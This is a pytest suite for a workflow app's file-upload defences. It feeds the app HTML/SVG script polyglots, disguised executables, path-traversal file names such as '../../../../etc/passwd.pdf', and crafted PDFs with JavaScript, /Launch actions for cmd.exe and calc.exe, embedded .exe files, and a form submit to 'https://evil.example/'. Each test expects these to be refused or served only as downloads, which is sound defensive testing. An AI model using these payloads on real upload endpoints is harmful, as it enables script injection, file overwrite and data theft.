"""Hostile uploads: polyglots, oversize files, path traversal in names, mislabelled types, SVG and HTML, PDFs with
scripts, launch actions or embedded files; and how whatever is accepted is served back (attachment, the type and
extension of its content, nosniff, only to people who may see the case)."""

from __future__ import annotations

import io
import os
from pathlib import Path
from urllib.parse import quote

import pytest
from pdfs import PLAIN_PDF, make_pdf, stream
from sqlalchemy import select
from webhelpers import make_app, open_case

from workflow.models.attachments import Attachment

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 64
# A well-formed PDF whose header comment is a web page: a browser sniffing it, or opening it saved as .html, runs it.
PDF_HTML_POLYGLOT = make_pdf(comment=b"<html><body><script>alert(document.cookie)</script></body></html>")
HTML_PDF_POLYGLOT = b"<html><script>alert(1)</script><!--\n%PDF-1.4\n-->\n"


def _upload(b, case_id: int, content: bytes, name: str, content_type: str | None = None):
    file = (io.BytesIO(content), name, content_type) if content_type else (io.BytesIO(content), name)
    return b.post(f"/applicant/cases/{case_id}/materials", data={"category": "education", "file": file},
                  content_type="multipart/form-data")


def _rows(db, case_id: int) -> list[dict]:
    att = Attachment.__table__
    with db.read() as conn:
        return [dict(r) for r in conn.execute(select(att).where(att.c.case_id == case_id).order_by(att.c.id))
                .mappings()]


def _files(folder: str) -> list[Path]:
    return sorted(p for p in Path(folder).rglob("*") if p.is_file())


@pytest.mark.parametrize(("content", "name", "declared"), [
    (HTML_PDF_POLYGLOT, "cv.pdf", "application/pdf"),
    (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "photo.png", "image/png"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "x.svg", "image/svg+xml"),
    (b"<!doctype html><script>alert(1)</script>", "index.html", "text/html"),
    (b"GIF89a" + b"\x00" * 20, "a.gif", "image/gif"),
    (b"PK\x03\x04" + b"\x00" * 20, "materials.pdf", "application/pdf"),  # a zip (docx/jar) named .pdf
    (b"MZ\x90\x00" + b"\x00" * 20, "证书.jpg", "image/jpeg"),
    (b" %PDF-1.4\n", "lead-space.pdf", "application/pdf"),
])
def test_anything_but_pdf_jpeg_png_by_content_is_refused(app, cast, browser, content, name, declared):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    response = _upload(browser("zhang"), case_id, content, name, declared)
    assert response.status_code == 422
    assert "只接受 PDF、JPEG 或 PNG" in response.get_data(as_text=True)
    assert _rows(cast.db, case_id) == [] and _files(app.config["UPLOAD_FOLDER"]) == []


def test_a_pdf_html_polyglot_is_only_ever_a_pdf_download(app, cast, browser):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    assert _upload(b, case_id, PDF_HTML_POLYGLOT, "page.html", "text/html").status_code == 303
    (row,) = _rows(cast.db, case_id)
    assert row["content_type"] == "application/pdf" and row["stored_name"].endswith(".pdf")
    assert row["original_name"] == "page.pdf"  # the extension of the content, never the uploader's
    response = b.get(f"/cases/{case_id}/materials/{row['id']}")
    assert response.status_code == 200 and response.data == PDF_HTML_POLYGLOT
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == "attachment; filename=page.pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]
    response.close()


def test_a_mislabelled_image_keeps_its_real_type(app, cast, browser):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    assert _upload(b, case_id, PNG, "report.pdf", "application/pdf").status_code == 303
    assert _upload(b, case_id, JPEG, "scan.png", "text/html").status_code == 303
    png, jpeg = _rows(cast.db, case_id)
    assert (png["content_type"], jpeg["content_type"]) == ("image/png", "image/jpeg")
    response = b.get(f"/cases/{case_id}/materials/{png['id']}")
    assert response.mimetype == "image/png" and response.headers["Content-Disposition"].startswith("attachment")
    response.close()


@pytest.mark.parametrize("name", ["../../../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/cron.d/x.pdf",
                                  "....//....//x.pdf", "%2e%2e%2fx.pdf", "a\x00b.pdf", "\u202etxt.pdf", ".htaccess",
                                  "static/../../app.py"])
def test_names_never_become_paths(app, cast, browser, name):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    folder = Path(app.config["UPLOAD_FOLDER"]).resolve()
    response = _upload(browser("zhang"), case_id, PLAIN_PDF, name)
    assert response.status_code == 303, response.status_code
    (row,) = _rows(cast.db, case_id)
    (stored,) = _files(str(folder))
    assert stored.resolve().parent.parent == folder and stored.name == row["stored_name"]
    assert len(row["stored_name"]) == 36 and row["stored_name"][:32].isalnum()
    assert "/" not in row["original_name"] and "\\" not in row["original_name"]
    assert all(ch.isprintable() for ch in row["original_name"])
    response = browser("zhang").get(f"/cases/{case_id}/materials/{row['id']}")
    disposition = response.headers["Content-Disposition"]
    response.close()
    assert disposition.startswith("attachment") and "/" not in disposition.split("filename", 1)[1]
    assert row["original_name"].endswith(".pdf") and not row["original_name"].startswith(".")


def test_the_upload_folder_is_outside_every_static_folder(app):
    folder = Path(app.config["UPLOAD_FOLDER"]).resolve()
    statics = [Path(app.static_folder).resolve()] + [Path(bp.static_folder).resolve()
                                                       for bp in app.blueprints.values() if bp.static_folder]
    for static in statics:
        assert not folder.is_relative_to(static) and not static.is_relative_to(folder)


def test_oversize_files_are_refused_whole_and_per_file(cast_db, tmp_path, cast):
    from webhelpers import PASSWORD, Browser

    app = make_app(cast_db, tmp_path, MAX_UPLOAD_BYTES=4096, MAX_CONTENT_LENGTH=64 * 1024)
    b = Browser(app.test_client(), PASSWORD).login("zhang")
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    # over the per-file limit but under the request cap: our own message, nothing kept
    response = _upload(b, case_id, b"%PDF-1.4\n" + b"0" * 8192, "big.pdf")
    assert response.status_code == 413 and "MB" in response.get_data(as_text=True)
    # over the whole-request cap: refused before the body is read
    response = _upload(b, case_id, b"%PDF-1.4\n" + b"0" * (128 * 1024), "huge.pdf")
    assert response.status_code == 413
    assert _rows(cast.db, case_id) == [] and _files(app.config["UPLOAD_FOLDER"]) == []
    assert _upload(b, case_id, make_pdf(pad=1000), "ok.pdf").status_code == 303


def test_only_people_who_may_see_the_case_get_the_file(app, cast, browser):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    assert _upload(b, case_id, PLAIN_PDF, "diploma.pdf").status_code == 303
    (row,) = _rows(cast.db, case_id)
    url = f"/cases/{case_id}/materials/{row['id']}"
    assert browser().get(url).status_code == 302  # to sign in
    for who in ("li", "other_hr", "unit_hr", "expert1", "outsider"):  # a draft: the applicant's own
        assert browser(who).get(url).status_code == 403, who
    assert browser("li").get(f"/cases/999/materials/{row['id']}").status_code == 404


def test_stored_files_are_not_executable_or_world_writable(app, cast, browser):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    assert _upload(browser("zhang"), case_id, JPEG, "a.jpg").status_code == 303
    (stored,) = _files(app.config["UPLOAD_FOLDER"])
    mode = os.stat(stored).st_mode
    assert not mode & 0o111 and not mode & 0o002


# --------------------------------------------------------------------------------------------- names follow content


@pytest.mark.parametrize(("content", "name", "expected"), [
    (PLAIN_PDF, "申报表.html", "申报表.pdf"),
    (PNG, "photo.jpeg", "photo.png"),
    (JPEG, "scan", "scan.jpg"),
    (PLAIN_PDF, "run.pdf.exe", "run.pdf.pdf"),
    (PNG, ".htaccess", "htaccess.png"),
])
def test_the_recorded_and_served_name_takes_the_extension_of_the_content(app, cast, browser, content, name,
                                                                          expected):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    assert _upload(b, case_id, content, name).status_code == 303
    (row,) = _rows(cast.db, case_id)
    assert row["original_name"] == expected and row["stored_name"].endswith(expected[expected.rindex("."):])
    response = b.get(f"/cases/{case_id}/materials/{row['id']}")
    assert response.mimetype == row["content_type"]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and quote(expected) in disposition
    response.close()


def test_a_file_recorded_under_its_uploaders_extension_is_served_by_its_content(app, cast, browser):
    """Rows written before names followed the content (or a stale type) are corrected on the way out."""
    from workflow.records import attachments

    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    folder = Path(app.config["UPLOAD_FOLDER"])
    stored = "ab" + "0" * 30 + ".pdf"
    (folder / "ab").mkdir(parents=True, exist_ok=True)
    (folder / "ab" / stored).write_bytes(PDF_HTML_POLYGLOT)
    att = Attachment.__table__
    with cast.db.write() as conn:
        conn.execute(att.insert().values(
            case_id=case_id, uploaded_by=cast.applicant.user_id, category="education", original_name="x.html",
            stored_name=stored, content_type="text/html", size=len(PDF_HTML_POLYGLOT), sha256="0" * 64,
            uploaded_at=attachments.utcnow(), case_state="draft"))
    (row,) = _rows(cast.db, case_id)
    response = browser("zhang").get(f"/cases/{case_id}/materials/{row['id']}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == "attachment; filename=x.pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    response.close()


# --------------------------------------------------------------------------------------------- PDFs with active content

ACTIVE_PDF_TEXT = "PDF 文件含有脚本或可执行内容（如 /JavaScript、/Launch、嵌入文件），出于安全原因不予接收。"


def _pypdf_with_script() -> bytes:
    """A document-level script, written by pypdf itself (the /Names /JavaScript tree)."""
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('x');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pypdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("setup.exe", b"MZ\x90\x00")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE_PDFS = {
    "open-action-javascript": make_pdf(catalog="/OpenAction 4 0 R",
                                       objects=["<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"]),
    "open-action-launch": make_pdf(catalog="/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"),
    "link-launch": make_pdf(page="/Annots [4 0 R]", objects=[
        "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"]),
    "link-js": make_pdf(page="/Annots [4 0 R]", objects=[
        "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS 5 0 R >> >>",
        stream(b"this.submitForm('https://evil.example/');")]),
    "link-js-escaped-names": make_pdf(page="/Annots [4 0 R]", objects=[
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"]),
    "embedded-file": make_pdf(catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", objects=[
        "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream(b"MZ\x90\x00", "/Type /EmbeddedFile")]),
    "unreferenced-script": make_pdf(objects=["<< /S /JavaScript /JS (app.alert(1)) >>"]),
    "page-open-action": make_pdf(page="/AA << /O << /S /URI /URI (https://tracker.example/) >> >>"),
    "xfa-form": make_pdf(catalog="/AcroForm << /Fields [] /XFA 4 0 R >>", objects=[stream(b"<xdp:xdp/>")]),
    "pypdf-script": _pypdf_with_script(),
    "pypdf-attachment": _pypdf_with_attachment(),
}


@pytest.mark.parametrize("kind", sorted(ACTIVE_PDFS))
def test_a_pdf_with_active_content_is_refused_and_nothing_kept(app, cast, browser, kind):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    response = _upload(browser("zhang"), case_id, ACTIVE_PDFS[kind], "材料.pdf", "application/pdf")
    assert response.status_code == 422, kind
    assert ACTIVE_PDF_TEXT in response.get_data(as_text=True)
    assert _rows(cast.db, case_id) == [] and _files(app.config["UPLOAD_FOLDER"]) == []


def test_the_refusal_is_in_english_for_english_pages(app, cast, browser):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    b.client.set_cookie("lang", "en")
    response = _upload(b, case_id, ACTIVE_PDFS["link-js"], "a.pdf")
    assert response.status_code == 422
    assert "contains scripts or executable content" in response.get_data(as_text=True)


@pytest.mark.parametrize(("content", "message"), [
    (b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "无法读取该 PDF 文件"),  # no objects at all
    (PLAIN_PDF[:-40], "无法读取该 PDF 文件"),  # cut short
    (b"%PDF-1.7\n" + b"[" * 5000 + b"\n%%EOF\n", "无法读取该 PDF 文件"),
])
def test_a_pdf_that_cannot_be_read_is_refused_with_its_own_message(app, cast, browser, content, message):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    response = _upload(browser("zhang"), case_id, content, "a.pdf")
    assert response.status_code == 422 and message in response.get_data(as_text=True)
    assert _rows(cast.db, case_id) == [] and _files(app.config["UPLOAD_FOLDER"]) == []


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_password_protected_pdf_is_refused_an_owner_password_alone_is_not(app, cast, browser, algorithm):
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    def encrypted(user_password: str, javascript: bool = False) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(595, 842)
        if javascript:
            writer.add_open_action(JavaScript("app.alert('x');"))
        writer.encrypt(user_password, "owner-secret", algorithm=algorithm)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    b = browser("zhang")
    response = _upload(b, case_id, encrypted("open-sesame"), "locked.pdf")
    assert response.status_code == 422 and "PDF 文件已加密" in response.get_data(as_text=True)
    assert _upload(b, case_id, encrypted(""), "restricted.pdf").status_code == 303  # opens without a password
    # … and is read like any other: a script inside an encrypted file is still found
    response = _upload(b, case_id, encrypted("", javascript=True), "scripted.pdf")
    assert response.status_code == 422 and "PDF 文件已加密" not in response.get_data(as_text=True)


@pytest.mark.parametrize("content", [
    PLAIN_PDF,
    make_pdf(catalog="/OpenAction [3 0 R /Fit]"),  # "open at page 1", as office suites write it
    make_pdf(page="/Annots [4 0 R]", objects=[  # an ordinary web link, followed only on a click
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.hunan.gov.cn/) >> >>"]),
])
def test_ordinary_pdfs_are_accepted(app, cast, browser, content):
    case_id = open_case(cast, materials=False)  # the files these tests upload are the only ones
    assert _upload(browser("zhang"), case_id, content, "证书.pdf").status_code == 303
    (row,) = _rows(cast.db, case_id)
    assert row["content_type"] == "application/pdf" and row["original_name"] == "证书.pdf"


def test_a_pdf_built_to_be_slow_is_read_in_one_pass(tmp_path, monkeypatch):
    """Cross-reference offsets that all miss, and many references to objects that do not exist: pypdf would
    search the whole file once for each (minutes for a few MB); the check repairs the table in one pass and
    never searches. Counted, not timed: pypdf's whole-file searches all start by reading the file's bytes."""
    import re

    import pypdf._reader

    from web.pdfcheck import PdfRefused, check_pdf

    searches = []
    read_all = pypdf._reader.get_stream_data
    monkeypatch.setattr(pypdf._reader, "get_stream_data", lambda s: searches.append(1) or read_all(s))

    def skewed(objects: list[str]) -> bytes:
        pdf = make_pdf(objects=objects)  # then every offset in the table points two bytes into its object
        return re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m.group(1)) + 2), pdf)

    plain = tmp_path / "plain.pdf"
    plain.write_bytes(skewed([f"<< /Next {n + 5} 0 R /Gone {900000 + n} 0 R >>" for n in range(1500)]))
    check_pdf(plain)
    assert searches == []
    hidden = tmp_path / "hidden.pdf"
    hidden.write_bytes(skewed(["<< /Gone 999999 0 R >>"] * 200 + ["<< /S /JavaScript /JS (app.alert(1)) >>"]))
    with pytest.raises(PdfRefused) as refused:
        check_pdf(hidden)
    assert refused.value.found == "/JS" and searches == []
